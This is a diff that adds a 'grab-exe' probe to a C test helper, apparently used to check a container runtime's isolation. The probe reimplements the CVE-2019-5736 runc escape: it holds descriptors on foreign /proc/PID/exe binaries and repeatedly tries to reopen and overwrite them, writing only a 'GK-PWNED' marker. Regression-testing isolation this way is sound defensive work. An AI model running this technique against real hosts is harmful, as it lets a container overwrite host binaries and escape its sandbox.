@@ -11,6 +11,8 @@
  *   gk-probe open PATH [r|w]      "ok" or "errno=..."
  *   gk-probe write-exe PID        opens /proc/PID/exe for writing: "ok" or "errno=..."
  *   gk-probe notify MESSAGE       sends MESSAGE to $NOTIFY_SOCKET: "ok" or "errno=..."
+ *   gk-probe grab-exe SECONDS     tries to overwrite any foreign binary a process of
+ *                                 the container runs: "grabbed PID"..., "wrote"/"no write"
  *
  * Adding a probe: write `static int p_NAME(int argc, char **argv)` and add a
  * line to `probes[]` (and, for a syscall, to `syscalls[]`).  libc only: it
@@ -39,6 +41,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/un.h>
+#include <time.h>
 #include <unistd.h>
 
 /* Every probe has the table's signature; most ignore their arguments. */
@@ -388,6 +391,73 @@ static int p_write_exe(int argc, char **argv)
         return report(fd, err);
 }
 
+/* CVE-2019-5736's attacker: for SECONDS, holds an O_PATH fd on the exe of
+ * every process whose binary is foreign to the container (not this probe,
+ * not /bin/busybox), and keeps trying to reopen each one for writing (it
+ * fails with ETXTBSY while the binary runs) and write over its start.
+ * Prints "grabbed" per foreign binary, and "wrote" when a write went in. */
+static int p_grab_exe(int argc, char **argv)
+{
+        struct stat self, bb, st;
+        int fds[64], n = 0, wrote = 0;
+        time_t end = time(NULL) + atoi(argv[0]);
+
+        if (stat("/proc/self/exe", &self) < 0)
+                return cannot("/proc/self/exe");
+        if (stat("/bin/busybox", &bb) < 0)
+                bb = self;
+        while (time(NULL) < end && !wrote) {
+                DIR *d = opendir("/proc");
+                struct dirent *de;
+
+                if (!d)
+                        return cannot("/proc");
+                while ((de = readdir(d)) && n < (int) N(fds)) {
+                        char path[300];
+                        int fd, known = 0;
+
+                        if (de->d_name[0] < '1' || de->d_name[0] > '9')
+                                continue;
+                        snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
+                        fd = open(path, O_PATH | O_CLOEXEC);
+                        if (fd < 0 || fstat(fd, &st) < 0) {
+                                if (fd >= 0)
+                                        close(fd);
+                                continue;
+                        }
+                        known = (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
+                                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino);
+                        for (int i = 0; i < n && !known; i++) {
+                                struct stat o;
+
+                                known = fstat(fds[i], &o) == 0 && o.st_dev == st.st_dev &&
+                                        o.st_ino == st.st_ino;
+                        }
+                        if (known) {
+                                close(fd);
+                                continue;
+                        }
+                        printf("grabbed %s\n", de->d_name);
+                        fflush(stdout);
+                        fds[n++] = fd;
+                }
+                closedir(d);
+                for (int i = 0; i < n && !wrote; i++) {
+                        char path[64];
+                        int w;
+
+                        snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
+                        w = open(path, O_WRONLY | O_CLOEXEC);
+                        if (w >= 0) {
+                                wrote = pwrite(w, "GK-PWNED", 8, 0) == 8;
+                                close(w);
+                        }
+                }
+        }
+        puts(wrote ? "wrote" : "no write");
+        return 0;
+}
+
 static int p_oom_score_adj(int argc, char **argv)
 {
         char buf[32] = "";
@@ -439,7 +509,7 @@ static const struct {
         { "seccomp", 0, p_seccomp }, { "fds", 0, p_fds },         { "ids", 0, p_ids },
         { "rlimit", 1, p_rlimit },   { "cwd", 0, p_cwd },         { "open", 1, p_open },
         { "write-exe", 1, p_write_exe }, { "oom-score-adj", 0, p_oom_score_adj },
-        { "notify", 1, p_notify },
+        { "notify", 1, p_notify },   { "grab-exe", 1, p_grab_exe },
 };
 
 int main(int argc, char **argv)
